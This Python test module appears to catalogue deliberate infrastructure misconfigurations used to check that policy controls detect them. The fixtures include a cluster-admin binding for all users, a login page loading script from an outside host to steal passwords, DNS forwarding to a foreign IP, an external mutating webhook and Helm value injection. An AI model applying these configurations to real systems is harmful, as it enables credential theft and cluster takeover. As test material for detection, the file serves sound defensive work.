"""Ways to put something where nobody judges it (X)."""

from __future__ import annotations

import json
from typing import Any

from tests.violations.catalogue import Body, Stacks, violation

_EVERYBODY: Body = {
    "metadata": {"name": "everybody"},
    "role_ref": {"api_group": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
    "subject": [{"kind": "Group", "name": "system:authenticated", "api_group": "rbac.authorization.k8s.io"}],
}


@violation(kills="X12-recorded-types")
def instance_by_another_api(stacks: Stacks) -> None:
    """Cloud Control makes whatever its JSON says, a bastion too, under a type of its own."""
    state = json.dumps({"ImageId": "ami-0123456789abcdef0", "KeyName": "shared"})
    body = {"type_name": "AWS::EC2::Instance", "desired_state": state}
    stacks.add("live", "aws_cloudcontrolapi_resource", "bastion", body)


@violation(kills="X12-recorded-types")
def logs_off_at_night(stacks: Stacks) -> None:
    """A schedule calls the API of EKS and undoes what Terraform made."""
    target = {
        "arn": "arn:aws:scheduler:::aws-sdk:eks:updateClusterConfig",
        "role_arn": "arn:aws:iam::111122223333:role/x",
    }
    body = {"schedule_expression": "rate(1 hour)", "flexible_time_window": {"mode": "OFF"}, "target": target}
    stacks.add("account", "aws_scheduler_schedule", "night", body)


@violation(kills="X12-recorded-types")
def login_page_of_our_own(stacks: Stacks) -> None:
    """The tenant's login page is replaced by one that sends passwords elsewhere."""
    html = "<script src=https://another.example/x.js></script>"
    stacks.add("identity", "auth0_pages", "pages", {"login": {"enabled": True, "html": html}})


@violation(kills="X12-recorded-types")
def webhook_that_rewrites(stacks: Stacks) -> None:
    """A webhook rewrites each object after it was judged."""
    body = {"metadata": {"name": "rewrites"}, "webhook": [{"client_config": {"url": "https://another.example"}}]}
    stacks.add("live-workloads", "kubernetes_mutating_webhook_configuration_v1", "rewrites", body)


@violation(kills="X14-recorded-releases")
def chart_of_any_object(stacks: Stacks) -> None:
    """A chart that renders whatever stands in its values, which no control reads."""
    binding = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "all"}}
    body = {
        "name": "raw",
        "chart": "raw",
        "repository": "https://charts.helm.sh/incubator",
        "version": "0.2.5",
        "namespace": "monitoring",
        "values": [json.dumps({"resources": [binding]})],
    }
    stacks.add("live-workloads", "helm_release", "raw", body)


@violation(kills="X14-recorded-releases")
def rewritten_after_rendering(stacks: Stacks) -> None:
    """A post-renderer takes the policies out of what the chart renders."""
    stacks.one("live-workloads", "helm_release", "calico")["postrender"] = {"binary_path": "./strip.sh"}


@violation(kills="X14-recorded-releases")
def values_of_before(stacks: Stacks) -> None:
    """The release keeps values that somebody set by hand, under those that are judged."""
    stacks.one("live-workloads", "helm_release", "fluent-bit")["reuse_values"] = True


@violation(kills="X14-recorded-releases")
def hooks_left_out(stacks: Stacks) -> None:
    """The chart's hooks, which give its admission webhook a certificate, do not run."""
    stacks.one("live-workloads", "helm_release", "monitoring")["disable_webhooks"] = True


@violation(kills="X15-own-stack")
def entry_in_the_account(stacks: Stacks) -> None:
    """The account's stack lets a role into a cluster, where no control looks for access entries."""
    principal = "arn:aws:iam::111122223333:role/everybody"
    stacks.add("account", "aws_eks_access_entry", "everybody", {"cluster_name": "live", "principal_arn": principal})


@violation(kills="X15-own-stack")
def spot_nodes_in_the_account(stacks: Stacks) -> None:
    """A node group of the cluster that the cluster's stack does not know."""
    body: dict[str, Any] = {"cluster_name": "live", "node_group_name": "spot", "capacity_type": "SPOT"}
    body |= {"node_role_arn": "arn:aws:iam::111122223333:role/admin", "subnet_ids": ["subnet-0123456789abcdef0"]}
    stacks.add("account", "aws_eks_node_group", "spot", body)


@violation(kills="X15-own-stack", also=("B07-state",), names="kubernetes_cluster_role_binding_v1.everybody")
def stack_of_no_cluster(stacks: Stacks) -> None:
    """A stack beside the others that looks no cluster up binds everybody to cluster-admin."""
    assert {"live", "test"} <= stacks.keys(), "with one cluster, the stack would be that one's"
    stacks.opened |= {"live", "test"}
    dict.__setitem__(stacks, "extras", {"resource": {"kubernetes_cluster_role_binding_v1": {"everybody": _EVERYBODY}}})


@violation(kills="X16-recorded-values", layers=("synth",), names="a value that no decision has recorded")
def objects_brought_by_the_chart(stacks: Stacks) -> None:
    """A list of any objects, which the chart renders beside its own."""
    binding = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "all"}}
    stacks.local("live-workloads", "monitoring_values")["extraManifests"] = [binding]


@violation(kills="X16-recorded-values", names="a value that no decision has recorded")
def domain_by_another_address(stacks: Stacks) -> None:
    """The domain's name leads to another host, on the pods of fluent-bit alone."""
    host = "search-cloud-platform-live.eu-west-2.es.amazonaws.com"
    values = stacks.local("live-workloads", "fluent-bit_values")
    values["hostAliases"] = [{"ip": "203.0.113.66", "hostnames": [host]}]


@violation(kills="X16-recorded-values", layers=("synth",), names="a value that no decision has recorded")
def nothing_selected(stacks: Stacks) -> None:
    """Prometheus runs, and scrapes nothing that anybody has labelled."""
    values = stacks.local("live-workloads", "monitoring_values")
    values["prometheus"]["prometheusSpec"]["serviceMonitorSelector"] = {"matchLabels": {"team": "nobody"}}


@violation(kills="X16-recorded-values", names="a value that no decision has recorded")
def operator_on_no_node(stacks: Stacks) -> None:
    """Calico's operator waits for a node that will never be there."""
    stacks.local("live-workloads", "calico_values")["nodeSelector"] = {"calico": "true"}


@violation(kills="X16-recorded-values", names="a value that no decision has recorded")
def controllers_of_calico_on_no_node(stacks: Stacks) -> None:
    """A field of the Installation: what names the cluster's pods to Calico waits for a node that will never be there."""
    (installation,) = stacks.local("live-workloads", "calico_installation_values")["objects"]
    installation["spec"]["controlPlaneNodeSelector"] = {"calico": "true"}


@violation(kills="X16-recorded-values", names="corefile")
def names_from_elsewhere(stacks: Stacks) -> None:
    """The add-on coredns asks somebody else for every name."""
    addon = stacks.one("live", "aws_eks_addon", "coredns")
    addon["configuration_values"] = json.dumps({"corefile": ".:53 {\n  forward . 203.0.113.66\n}"})


@violation(kills="X14-recorded-releases")
def load_balancers_for_ingress(stacks: Stacks) -> None:
    """The future option, without an amendment."""
    body = {
        "name": "balancers",
        "chart": "aws-load-balancer-controller",
        "version": "1.13.0",
        "namespace": "kube-system",
    }
    stacks.add(
        "live-workloads", "helm_release", "balancers", {**body, "repository": "https://aws.github.io/eks-charts"}
    )


@violation(kills="X16-recorded-values", names="helm_release.calico")
def taken_apart_when_it_is_known(stacks: Stacks) -> None:
    """A harmless value comes from a parameter; Helm splits it at its commas, and the rest is another value."""
    stacks.add("live-workloads", "data.aws_ssm_parameter", "folder", {"name": "/anybody/may/write"})
    value = "${data.aws_ssm_parameter.folder.insecure_value}"
    release = stacks.one("live-workloads", "helm_release", "calico")
    release["set"] = [{"name": "installation.kubeletVolumePluginPath", "value": value}]
